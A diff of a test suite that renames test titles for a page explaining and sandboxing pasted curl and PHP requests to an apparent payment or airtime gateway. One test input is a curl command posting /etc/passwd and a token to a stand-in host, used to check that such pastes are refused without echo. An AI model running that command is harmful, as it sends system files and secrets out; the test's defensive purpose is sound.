@@ -30,7 +30,7 @@ test('a paste is explained from its address to the rule of each reply field', as
   expect(html).not.toContain('4321');
 });
 
-test('fields alone go to the address that was chosen, and the caller is the one that was chosen', async () => {
+test('fields alone go to the chosen address, and the caller is the chosen one', async () => {
   house = await openHouse();
   const caller = '0123456789abcdef0123456789abcdef';
   const { text } = await read("['network' => 1, 'mobile_number' => '08031234567', 'amount' => 100]", { caller });
@@ -38,7 +38,7 @@ test('fields alone go to the address that was chosen, and the caller is the one 
   expect((await read(CURL, { caller })).text).toContain(`fingerprint ${caller.slice(0, 8)}`);
 });
 
-test('a refused request shows the very reply that its script gets', async () => {
+test('a refused request shows the reply that its script gets', async () => {
   house = await openHouse();
   const broken = CURL.replace('"08031234567"', '"no phone"');
   const { text } = await read(broken);
@@ -53,7 +53,7 @@ test('a refused request shows the very reply that its script gets', async () => 
   expect(unread.text).toContain('The gateway refuses to read it');
 });
 
-test('what is no request is told without a word of it', async () => {
+test('a paste that is no request is refused without being repeated', async () => {
   house = await openHouse();
   for (const text of [`the key is ${KEY}`, `$x = "${KEY}"; if ($y) { }`, `curl -d @/etc/passwd http://h/ -H 'Token: ${KEY}'`]) {
     const { html, status } = await read(text);
@@ -68,7 +68,7 @@ test('what is no request is told without a word of it', async () => {
 test.each([
   ['curl', CURL],
   ['PHP', PHP],
-])('a paste of %s is sold in the sandbox with its key, never with that of the paste', async (_kind, paste) => {
+])('a paste of %s is sold in the sandbox with the sandbox key, never with the key of the paste', async (_kind, paste) => {
   house = await openHouse({ logLevel: 'debug' });
   const { text, html } = await sendIt(paste);
   expect(text).toContain('HTTP 200');
@@ -86,7 +86,7 @@ test('a login in the sandbox shows no AccessToken', async () => {
   expect(html).not.toContain('cga2.');
 });
 
-test('a gateway that sells through a real v1 sends nothing', async () => {
+test('a gateway that sells through a real v1 sends nothing from this page', async () => {
   let asked = 0;
   house = await openHouse({ v1: () => ((asked += 1), { http: 200, body: { status: 'success' } }) });
   const before = asked;
